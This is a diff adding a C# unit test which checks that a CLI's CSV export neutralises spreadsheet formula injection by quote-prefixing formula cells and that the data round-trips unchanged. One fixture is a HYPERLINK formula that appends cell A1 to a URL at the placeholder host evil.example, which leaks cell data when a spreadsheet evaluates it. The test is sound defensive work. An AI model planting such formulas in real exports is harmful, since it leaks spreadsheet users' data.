@@ -46,6 +46,30 @@ public class ExportCommandTests
         Assert.Contains(lines, l => l.StartsWith("exp-1,", StringComparison.Ordinal) && l.Contains(Email, StringComparison.Ordinal) && l.Contains(Phone, StringComparison.Ordinal));
     }
 
+    [Fact]
+    public async Task Export_csv_prefixes_formula_cells_with_a_quote_and_the_file_imports_back_unchanged()
+    {
+        const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")";
+        var hostile = System.Text.Json.Nodes.JsonNode.Parse(Json("exp-f"))!;
+        hostile["firstName"] = Formula;
+        hostile["headline"] = "@SUM(A1:A9)";
+        using var folder = new CliFolder();
+        Assert.Equal(0, (await folder.RunAsync("import", folder.Write("in.jsonl", hostile.ToJsonString() + "\n"))).ExitCode);
+
+        var run = await folder.RunAsync("export", folder.File("out.csv"));
+
+        Assert.True(run.ExitCode == 0, run.ToString());
+        var csv = await File.ReadAllTextAsync(folder.File("out.csv"));
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Cliquez\"\")\",", csv, StringComparison.Ordinal);
+        Assert.Contains(",'@SUM(A1:A9),", csv, StringComparison.Ordinal);
+        Assert.Equal(0, (await folder.RunAsync("import", folder.File("out.csv"))).ExitCode);
+        Assert.Equal(0, (await folder.RunAsync("export", folder.File("again.jsonl"))).ExitCode);
+        var again = ReadExport(folder.File("again.jsonl"))["exp-f"];
+        Assert.Equal((Formula, "@SUM(A1:A9)"), (again["firstName"]!.GetValue<string>(), again["headline"]!.GetValue<string>()));
+        Assert.Equal(0, (await folder.RunAsync("export", folder.File("again.csv"))).ExitCode);
+        Assert.Equal(csv, await File.ReadAllTextAsync(folder.File("again.csv")));
+    }
+
     private static async Task<CliFolder> ImportedAsync()
     {
         var folder = new CliFolder();
